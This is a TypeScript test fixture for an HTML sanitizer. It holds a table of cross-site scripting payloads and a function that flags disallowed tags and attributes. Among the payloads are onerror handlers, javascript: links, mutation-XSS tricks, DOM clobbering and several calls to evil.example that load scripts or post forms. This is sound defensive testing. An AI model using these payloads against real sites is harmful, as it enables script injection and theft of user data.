/** Snippets that run, load or post something where HTML is shown without care. `hit` is the alarm. */
export const ATTACKS: Readonly<Record<string, string>> = {
  script: '<script>hit("script")</script>',
  'script with a source': '<script src="https://evil.example/a.js"></script>',
  'script in capitals': '<ScRiPt>hit("caps")</sCrIpT>',
  'split script': '<scr<script>ipt>hit("split")</scr</script>ipt>',
  'broken image': '<img src=x onerror=hit("onerror")>',
  'image with slashes': '<img/src="x"/onerror=hit("slashes")>',
  'image with data': '<img src="data:image/svg+xml,<svg onload=hit(1)>">',
  'image set':
    '<img src="https://a.vn/a.jpg" srcset="javascript:hit(1) 1x, https://evil.example/p 2x">',
  'svg onload': '<svg onload=hit("svg")></svg>',
  'svg script': '<svg><script>hit("svgscript")</script></svg>',
  'svg use': '<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x"></use></svg>',
  'svg animate':
    '<svg><a><animate attributeName=href values=javascript:hit(1) /><text>x</text></a></svg>',
  'math link':
    '<math><maction actiontype="statusline" xlink:href="javascript:hit(1)">x</maction></math>',
  'javascript link': '<a href="javascript:hit(1)">bấm</a>',
  'link with entities': '<a href="jav&#x09;ascript:hit(1)">bấm</a>',
  'link with a line break': '<a href="java\nscript:hit(1)">bấm</a>',
  'link with control characters': '<a href="\u0001javascript:hit(1)">bấm</a>',
  'data link': '<a href="data:text/html,<script>hit(1)</script>">bấm</a>',
  'vbscript link': '<a href="vbscript:hit(1)">bấm</a>',
  'blob link': '<a href="blob:https://evil.example/1">bấm</a>',
  'link with a handler':
    '<a href="https://a.vn/" onclick="hit(1)" onmouseover=hit(2) style="position:fixed;inset:0">x</a>',
  iframe: '<iframe src="javascript:hit(1)"></iframe>',
  'iframe srcdoc': '<iframe srcdoc="<script>parent.hit(1)</script>"></iframe>',
  object: '<object data="javascript:hit(1)"></object><embed src="javascript:hit(1)">',
  form: '<form action="https://evil.example/post" method="post"><input name="a"><button formaction="javascript:hit(1)">Gửi</button></form>',
  'autofocused field': '<input onfocus=hit(1) autofocus>',
  base: '<base href="https://evil.example/"><a href="/x">x</a>',
  refresh: '<meta http-equiv="refresh" content="0;url=javascript:hit(1)">',
  'style sheet':
    '<link rel="stylesheet" href="https://evil.example/a.css"><style>@import "https://evil.example/b.css"; body{display:none}</style>',
  'style attribute': '<p style="background:url(https://evil.example/p.gif)">chữ</p>',
  details: '<details open ontoggle=hit(1)><summary>x</summary></details>',
  video: '<video><source onerror=hit(1)></video><audio src=x onerror=hit(2)></audio>',
  marquee: '<marquee onstart=hit(1)>x</marquee>',
  template: '<template><script>hit(1)</script></template>',
  noscript: '<noscript><p title="</noscript><img src=x onerror=hit(1)>"></noscript>',
  'mutation through math':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit(1)&gt;">',
  'mutation through svg': '<svg></p><style><a id="</style><img src=1 onerror=hit(1)>">',
  'mutation through a form':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit(1)>',
  'text that looks like mark-up': '<p>&lt;img src=x onerror=hit(1)&gt;</p>',
  'double encoding': '<p>&amp;lt;script&amp;gt;hit(1)&amp;lt;/script&amp;gt;</p>',
  textarea: '<textarea><img src=x onerror=hit(1)></textarea>',
  title: '<title><img src=x onerror=hit(1)></title>',
  xmp: '<xmp><img src=x onerror=hit(1)></xmp>',
  comment: '<!--><img src=x onerror=hit(1)>-->',
  cdata: '<![CDATA[><img src=x onerror=hit(1)>]]>',
  'custom element': '<x-evil onclick=hit(1) is="x-evil"><p is="x-evil">x</p></x-evil>',
  clobbering:
    '<a id="document"></a><img name="getElementById"><form id="body"><input name="attributes"><input name="parentNode"></form>',
  'named anchors': '<p id="app" name="root" class="modal">x</p>',
  'image on a protocol of its own':
    '<img src="file:///etc/passwd"><img src="chrome-extension://x/y.png"><img src="//evil.example/z.png">',
  'bad alt': '<img src="https://a.vn/a.jpg" alt="&quot; onerror=&quot;hit(1)">',
  'bad cell':
    '<table><tr><td colspan="9999999" rowspan="x" background="javascript:hit(1)">ô</td><td>ô</td></tr></table>',
  portal:
    '<portal src="https://evil.example"></portal><fencedframe src="https://evil.example"></fencedframe>',
  'shadow root': '<div><template shadowrootmode="open"><img src=x onerror=hit(1)></template></div>',
};

const ALLOWED = new Set(
  'p h2 h3 h4 ul ol li blockquote pre hr br table thead tbody tr th td figure figcaption img a strong em u s sup sub code'.split(
    ' ',
  ),
);
const ATTRIBUTES = new Set(['href', 'src', 'alt', 'colspan', 'rowspan']);

/** What in cleaned HTML is not of the closed vocabulary; empty when all is well. */
export function dangerIn(html: string, parsed: Document): string[] {
  const body = parsed.querySelector('body');
  const found = [...(body?.querySelectorAll('*') ?? [])].flatMap((element) => [
    ...(ALLOWED.has(element.nodeName.toLowerCase()) ? [] : [element.nodeName]),
    ...[...element.attributes]
      .filter(({ name, value }) => !isHarmless(name, value))
      .map(({ name, value }) => `${name}=${value}`),
  ]);
  return /<(?:script|style|svg|math|iframe|template)/i.test(html) ? [...found, html] : found;
}

function isHarmless(name: string, value: string): boolean {
  if (name === 'href' || name === 'src') {
    return /^https?:\/\//i.test(value) && value.length > 0;
  }
  return ATTRIBUTES.has(name);
}
